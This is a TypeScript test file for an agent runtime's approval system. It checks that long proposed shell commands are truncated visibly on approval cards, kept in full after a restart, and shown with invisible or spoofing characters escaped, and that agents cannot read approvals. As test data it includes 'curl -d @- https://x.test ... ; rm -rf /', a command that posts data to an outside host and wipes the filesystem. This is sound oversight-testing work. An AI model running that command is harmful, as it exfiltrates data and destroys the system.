import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ApprovalAction, HostApproval } from '@car-runtime/protocol';
import { RestartableDaemon, serve, type TestDaemon } from '@car-runtime/testkit';
import { HostWire } from '../../../test/host-wire.ts';
import { maxWholeChars } from './whole.ts';

interface Found {
  approval: HostApproval;
  action: ApprovalAction;
}

async function only(wire: HostWire): Promise<HostApproval> {
  const { approvals } = await wire.call<{ approvals: HostApproval[] }>('host.approvals', { status: 'pending' });
  const [approval] = approvals;
  assert.ok(approval && approvals.length === 1);
  return approval;
}

async function submit(daemon: TestDaemon, parameters: object): Promise<void> {
  const agent = await HostWire.connect(daemon, { agent: 'a' });
  const action = { id: 'one', type: 'tool_call', tool: 'shell', parameters };
  await agent.call('proposal.submit', { proposal: { id: 'p', source: 'a', actions: [action] } }).catch(() => undefined);
}

// req: approvals.whole
test('a card cuts a long value and says by how much; host.approval has all of it, after a restart too', async () => {
  await using daemon = await RestartableDaemon.start('memory');
  const command = `curl -d @- https://x.test ${'a'.repeat(30_000)} ; rm -rf /`;
  const action = { id: 'one', type: 'tool_call' as const, tool: 'shell', parameters: { command } };
  {
    await using host = await daemon.connectHost();
    await host.proposal.submit({ proposal: { actions: [action] } });
    const [asked] = (await host.host.approvals({ status: 'pending' })).approvals;
    assert.match(
      asked?.card ?? '',
      new RegExp(`parameters.command: "curl .*…" \\(${command.length - 300} more characters\\)`),
    );
  }
  await daemon.stop();
  await daemon.start();
  await using host = await daemon.connectHost();
  const [kept] = (await host.host.approvals({ status: 'pending' })).approvals;
  assert.ok(kept);
  const { approval, action: covered } = await host.host.approval({ approval_id: kept.id });
  assert.deepEqual(approval, kept);
  const { content: _, ...whole } = JSON.parse(covered.text) as Record<string, unknown>;
  assert.deepEqual(whole, { type: 'tool_call', tool: 'shell', parameters: { command } });
  assert.deepEqual([covered.chars, covered.hidden_chars, covered.tail], [covered.text.length, 0, undefined]);
});

// req: approvals.whole
test('of more than is kept the beginning and the end are there, with the number of characters between', async () => {
  await using daemon = serve();
  const host = await HostWire.connect(daemon, 'host');
  await submit(daemon, { command: `curl x ${'é'.repeat(3_000_000)} last-words` });
  const { id } = await only(host);
  const { action } = await host.call<Found>('host.approval', { approval_id: id });
  const { text, tail = '', chars, hidden_chars } = action;
  assert.equal(text.length + tail.length, maxWholeChars);
  assert.ok(tail.includes('last-words'));
  assert.equal(text.length + tail.length + hidden_chars, chars);
  assert.ok(chars > 3_000_000);
});

// req: approvals.whole
test('nothing in the whole of an action is invisible, and agents do not read it', async () => {
  await using daemon = serve();
  const host = await HostWire.connect(daemon, 'host');
  await submit(daemon, { command: 'curl \u202Etxt.exe\u200B \u001B[2J' });
  const { id } = await only(host);
  const { action } = await host.call<Found>('host.approval', { approval_id: id });
  assert.ok(action.text.includes(String.raw`curl \u202etxt.exe\u200b \u001b[2J`), action.text);
  const agent = await daemon.peer({ as: { agent: 'b' } });
  assert.equal((await agent.error('host.approval', { approval_id: id })).data?.['reason'], 'forbidden');
  const unknown = await (await daemon.peer({ as: 'host' })).error('host.approval', { approval_id: 'approval-x' });
  assert.equal(unknown.data?.['reason'], 'unknown_approval');
});
